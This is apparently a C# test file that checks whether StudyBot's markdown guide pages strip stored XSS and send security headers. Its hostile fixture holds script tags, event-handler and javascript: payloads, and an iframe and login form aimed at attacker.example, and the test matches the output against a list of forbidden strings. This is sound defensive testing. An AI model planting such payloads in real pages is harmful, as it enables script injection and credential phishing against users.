namespace StudyBot.Tests.Guides;

/// <summary>Threats through the guide pages at <c>/guides/{guide}</c>: markup in a guide (the guides folder is
/// configuration, hot-reloaded) must not run in a learner's browser, and the page must not be sniffed or framed.</summary>
public sealed class GuidePageThreats(AzuriteFixture azurite)
{
    private const string Hostile = """
        # Evil guide {onclick="steal()"}

        <script>alert('xss')</script>
        <img src="x.png" onerror="alert('img')">
        <svg onload="alert('svg')"><circle r="1"/></svg>
        <iframe src="https://attacker.example/"></iframe>
        <form action="https://attacker.example/login"><input name="password"><button>Log in</button></form>
        <a href="javascript:alert('link')">click</a>
        <a href="data:text/html,<script>alert(1)</script>">data</a>
        <div style="background:url(javascript:alert('css'))">styled</div>

        [markdown link](javascript:alert('md'))

        ## Still here

        - [ ] a checklist item {#evil-item}

        ```yaml
        kind: Pod
        ```
        """;

    [Fact]
    public void Stored_XSS_a_guide_with_scripts_handlers_frames_forms_and_script_URLs_renders_without_any_of_them()
    {
        var html = GuidePages.Render(Hostile);

        foreach (var forbidden in new[] { "<script", "onerror", "onload", "onclick", "<iframe", "<form", "<button", "javascript:", "data:text/html", "alert(" })
        {
            Assert.DoesNotContain(forbidden, html, StringComparison.OrdinalIgnoreCase);
        }

        // What the guides legitimately use stays: headings with their anchors, images, layout divs, code, task lists.
        foreach (var kept in new[] { "id=\"still-here\"", "<img src=\"x.png\"", "class=\"language-yaml\"", "type=\"checkbox\"", ">styled</div>" })
        {
            Assert.Contains(kept, html, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Stored_XSS_a_hostile_guide_in_the_guides_folder_is_served_sanitised_with_the_pages_security_headers()
    {
        var folder = Directory.CreateTempSubdirectory("studybot-guides-").FullName;
        try
        {
            foreach (var file in Directory.GetFiles(SeedGuides.Folder))
            {
                File.Copy(file, Path.Combine(folder, Path.GetFileName(file)));
            }

            await File.WriteAllTextAsync(Path.Combine(folder, "zz-evil.md"), Hostile, TestContext.Current.CancellationToken);
            var settings = azurite.Settings(("Guides:Path", folder));
            await using var bot = await StudyBotHost.StartAsync(settings);

            foreach (var path in new[] { "guides/zz-evil", "guides/k8s-week3-part3", "guides" })
            {
                using var response = await bot.Client.GetAsync(path, TestContext.Current.CancellationToken);
                Assert.Equal(HttpStatusCode.OK, response.StatusCode);
                var csp = response.Headers.GetValues("Content-Security-Policy").Single();
                Assert.Contains("script-src 'self'", csp, StringComparison.Ordinal);
                Assert.Contains("frame-ancestors 'none'", csp, StringComparison.Ordinal);
                Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
                Assert.Equal("DENY", response.Headers.GetValues("X-Frame-Options").Single());
                var html = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
                Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
                Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
            }
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }
}
